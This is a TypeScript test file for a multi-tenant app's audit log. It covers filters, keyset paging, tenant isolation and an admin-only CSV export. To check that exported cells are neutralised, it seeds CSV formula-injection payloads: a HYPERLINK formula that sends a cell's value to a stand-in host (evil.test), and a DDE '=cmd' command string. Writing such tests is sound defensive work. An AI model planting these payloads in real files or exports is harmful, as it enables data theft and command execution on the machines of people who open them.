import { env, exports } from "cloudflare:workers";
import type { AuditEntry } from "@gantry/shared/api/audit";
import { beforeAll, describe, expect, it } from "vitest";
import { startSession } from "../src/auth/browser-session.ts";
import type { Principal } from "../src/auth/principal.ts";
import { auditCsvStream } from "../src/http/audit-export.ts";
import { AUDIT_CSV_HEADER, auditCsvRecord, csvCell } from "../src/projections/audit-csv.ts";
import { createContextInner } from "../src/trpc/context.ts";
import { appRouter } from "../src/trpc/router.ts";
import { createCallerFactory } from "../src/trpc/trpc.ts";
import { codeOf, requestInput } from "./support/callers.ts";
import { LOCAL } from "./support/http.ts";
import { testWorkflow } from "./support/test-deps.ts";
import { createTestTenant, type TestTenant } from "./support/test-tenant.ts";

// The audit page's data: filters and keyset pages of audit.list, and the CSV export route.

const create = createCallerFactory(appRouter);
const w = testWorkflow();
/** the test's clock, so the time-range filter has known times to cut at */
const as = (p: Principal) => create(createContextInner({ env, principal: p, deps: w.deps }));

/** RFC 4180: quoted fields, doubled quotes, CRLF records; enough to read our own export back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    expect(text[i]).toBe('"');
    let cell = "";
    i++;
    for (;;) {
      if (text[i] === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (text[i] === '"') {
        i++;
        break;
      } else cell += text[i++];
    }
    row.push(cell);
    if (text[i] === ",") i++;
    else {
      expect(text.slice(i, i + 2)).toBe("\r\n");
      i += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

const exportCsv = (query: Record<string, string>, headers: Record<string, string>) =>
  exports.default.fetch(new Request(`${LOCAL}/exports/audit.csv?${new URLSearchParams(query)}`, { headers }));

async function cookieOf(p: Principal): Promise<string> {
  const token = await startSession(
    {
      db: env.DB,
      now: Date.now(),
      secret: "test-session-secret-0123456789abcdef",
      revalidateMs: 60_000,
      renewal: null,
    },
    {
      identity: { userId: p.userId, tenantId: p.tenantId, role: p.role, email: p.email, name: p.name },
      source: "dev",
      grant: null,
    },
  );
  return `gantry_session=${token}`;
}

const HOSTILE = '=HYPERLINK("http://evil.test/?x="&A1,"click, me")\nline two';

let t: TestTenant;
let other: TestTenant;
let hostile: Principal;
let otherProject = "";
const requests: string[] = [];
let all: AuditEntry[] = [];
let midpoint = "";

beforeAll(async () => {
  t = await createTestTenant(env.DB);
  other = await createTestTenant(env.DB);
  // a person whose name is a formula, with a comma, quotes and a line break
  hostile = {
    ...t.otherMember,
    userId: `${t.tenantId}-hostile`,
    name: HOSTILE,
    email: `h@${t.tenantId}.test`,
  };
  await env.DB.prepare("INSERT INTO users (id, tenant_id, email, name, role) VALUES (?, ?, ?, ?, 'member')")
    .bind(hostile.userId, t.tenantId, hostile.email, hostile.name)
    .run();
  otherProject = `${t.tenantId}-proj2`;
  await env.DB.prepare(
    "INSERT INTO projects (id, tenant_id, slug, name, vm_prefix, site_id) VALUES (?, ?, 'two', 'Two', 'two', ?)",
  )
    .bind(otherProject, t.tenantId, t.siteId)
    .run();
  // five requests, a minute apart: three in the first project, two in the second
  for (const [who, project] of [
    [t.member, t.projectId],
    [t.member, t.projectId],
    [hostile, otherProject],
    [t.member, otherProject],
    [hostile, t.projectId],
  ] as const) {
    const made = await as(who).requests.create(requestInput(project));
    requests.push(made.requestId);
    if (requests.length === 3) midpoint = w.clock.now().toISOString();
    w.clock.advance(60_000);
  }
  const first = requests[0] ?? "";
  await as(t.admin).approvals.reject({ requestId: first, expectedVersion: 1, reason: "not this quarter" });
  await as(hostile).tokens.create({ name: "=cmd|' /C calc'!A0", scopes: ["read"], expiresInDays: 7 });
  // the other tenant has history of its own, which must never show
  await create(createContextInner({ env, principal: other.member })).requests.create(
    requestInput(other.projectId),
  );
  all = (await as(t.admin).audit.list({ limit: 100 })).items;
});

describe("audit.list filters", () => {
  it("holds everything the tenant's people did, newest first, and nothing of another tenant", () => {
    expect(all.map((e) => e.action)).toEqual([
      "API_TOKEN_CREATED",
      "REQUEST_REJECTED",
      ...requests.map(() => "REQUEST_SUBMITTED"),
    ]);
    expect(all.map((e) => e.position)).toEqual([...all.map((e) => e.position)].sort((a, b) => b - a));
  });

  it("by actor, action, actor kind, project and time range, alone and together", async () => {
    const list = async (filter: object) =>
      (await as(t.admin).audit.list({ limit: 100, filter })).items.map((e) => e.position);
    const where = (keep: (e: AuditEntry) => boolean) => all.filter(keep).map((e) => e.position);
    const submitted = (ids: (string | undefined)[]) => (e: AuditEntry) =>
      e.action === "REQUEST_SUBMITTED" && ids.includes(e.requestId ?? "");

    expect(await list({ actorId: hostile.userId })).toEqual(where((e) => e.actor.id === hostile.userId));
    expect(await list({ actorId: hostile.userId })).toHaveLength(3);
    expect(await list({ action: "REQUEST_REJECTED" })).toEqual(where((e) => e.action === "REQUEST_REJECTED"));
    expect(await list({ actorKind: "token" })).toEqual([]);
    expect(await list({ actorKind: "user" })).toEqual(where(() => true));
    // the project's requests, and what was done to them later (the rejection)
    expect(await list({ projectId: otherProject })).toEqual(where(submitted([requests[2], requests[3]])));
    expect(await list({ projectId: t.projectId })).toEqual(
      where((e) => [requests[0], requests[1], requests[4]].includes(e.requestId ?? "")),
    );
    // from inclusive, to exclusive
    expect(await list({ to: midpoint, action: "REQUEST_SUBMITTED" })).toEqual(
      where(submitted([requests[0], requests[1]])),
    );
    expect(await list({ from: midpoint, projectId: otherProject, actorId: hostile.userId })).toEqual(
      where(submitted([requests[2]])),
    );
    // another tenant's project or person matches nothing, like a missing one
    expect(await list({ projectId: other.projectId })).toEqual([]);
    expect(await list({ actorId: other.member.userId })).toEqual([]);
  });

  it("pages a filtered set by keyset: every entry once, in order, whatever arrives meanwhile", async () => {
    const seen: number[] = [];
    let cursor: number | undefined;
    for (let pages = 0; ; pages++) {
      expect(pages).toBeLessThan(10);
      const page = await as(t.admin).audit.list({
        limit: 2,
        filter: { action: "REQUEST_SUBMITTED" },
        ...(cursor ? { cursor } : {}),
      });
      seen.push(...page.items.map((e) => e.position));
      if (pages === 0) await as(t.member).requests.create(requestInput(t.projectId)); // newer: not in this walk
      if (page.nextCursor === null) break;
      cursor = page.nextCursor;
    }
    expect(seen).toEqual(all.filter((e) => e.action === "REQUEST_SUBMITTED").map((e) => e.position));
  });

  it("refuses a bad filter at its field, and members", async () => {
    const bad = [
      { from: "yesterday" },
      { action: "drop table" },
      { from: midpoint, to: midpoint },
      { extra: 1 },
    ];
    for (const filter of bad)
      expect(await codeOf(as(t.admin).audit.list({ filter } as never))).toBe("BAD_REQUEST");
    expect(await codeOf(as(t.member).audit.list({}))).toBe("FORBIDDEN");
  });
});

describe("CSV cells", () => {
  it("neutralise formulas and quote everything (RFC 4180)", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"])
      expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
    expect(csvCell('say "hi", then\nleave')).toBe('"say ""hi"", then\nleave"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell("plain")).toBe('"plain"');
  });
});

describe("GET /exports/audit.csv", () => {
  it("streams the filtered set as CSV an admin can open safely", async () => {
    const response = await exportCsv({ actorId: hostile.userId }, { cookie: await cookieOf(t.admin) });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="gantry-audit-/);
    const rows = parseCsv(await response.text());
    expect(rows[0]).toEqual([...AUDIT_CSV_HEADER]);
    const expected = all.filter((e) => e.actor.id === hostile.userId);
    expect(rows.slice(1)).toEqual(expected.map((e) => parseCsv(auditCsvRecord(e))[0]));
    // the hostile name is text, with its comma, quotes and line break intact
    expect(rows.slice(1).map((r) => r[3])).toEqual(expected.map(() => `'${HOSTILE}`));
    expect(rows.slice(1).every((r) => r.length === AUDIT_CSV_HEADER.length)).toBe(true);
  });

  it("reads the database one keyset page at a time (every entry, once, in order)", async () => {
    const stream = auditCsvStream(env.DB, { tenantId: t.tenantId, filter: {}, pageSize: 2 });
    const rows = parseCsv(await new Response(stream).text()).slice(1);
    const now = (await as(t.admin).audit.list({ limit: 100 })).items;
    expect(now.length).toBeGreaterThan(4);
    expect(rows).toEqual(now.map((e) => parseCsv(auditCsvRecord(e))[0]));
  });

  it("is for admins of the tenant only, with an admin-scoped token at most", async () => {
    expect((await exportCsv({}, {})).status).toBe(401);
    expect((await exportCsv({}, { cookie: await cookieOf(t.member) })).status).toBe(403);
    // made with the Worker's clock, which the route checks expiry against
    const live = create(createContextInner({ env, principal: t.admin }));
    const reader = await live.tokens.create({ name: "r", scopes: ["read"], expiresInDays: 1 });
    const admin = await live.tokens.create({ name: "a", scopes: ["admin"], expiresInDays: 1 });
    const byToken = (secret: string) => exportCsv({}, { authorization: `Bearer ${secret}` });
    expect((await byToken(reader.secret)).status).toBe(403);
    expect((await byToken(admin.secret)).status).toBe(200);
    // another tenant's admin, filtering by this tenant's project or person, gets only a header
    for (const query of [{}, { projectId: t.projectId }, { actorId: t.member.userId }] as Record<
      string,
      string
    >[]) {
      const text = await (await exportCsv(query, { cookie: await cookieOf(other.admin) })).text();
      expect(text).not.toContain(t.member.userId);
      expect(text).not.toContain(t.tenantId);
    }
    const bad = await exportCsv({ from: "last week" }, { cookie: await cookieOf(t.admin) });
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ fields: [{ path: "from" }] });
  });
});
